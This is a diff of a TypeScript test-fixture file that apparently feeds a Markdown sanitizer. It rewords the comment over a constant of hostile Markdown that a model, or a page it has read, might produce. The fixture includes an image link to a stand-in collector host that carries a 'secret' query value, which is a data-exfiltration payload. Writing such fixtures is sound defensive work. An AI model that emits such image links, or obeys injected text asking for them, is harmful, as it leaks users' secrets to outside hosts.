@@ -29,7 +29,7 @@ export const INVISIBLE = {
   seen: 'Visible text with tricks. می\u200Cخواهم 👩\u200D🚀 क्\u200Dष',
 } as const;
 
-/** What a hostile model, or a page it has read, may try in Markdown. None of it may load or run. */
+/** Attacks in Markdown by a hostile model, or a page it has read. None of it may load or run. */
 export const HOSTILE_ANSWER = `Here is the result.
 
 ![pixel](https://collector.example/p.png?d=secret)
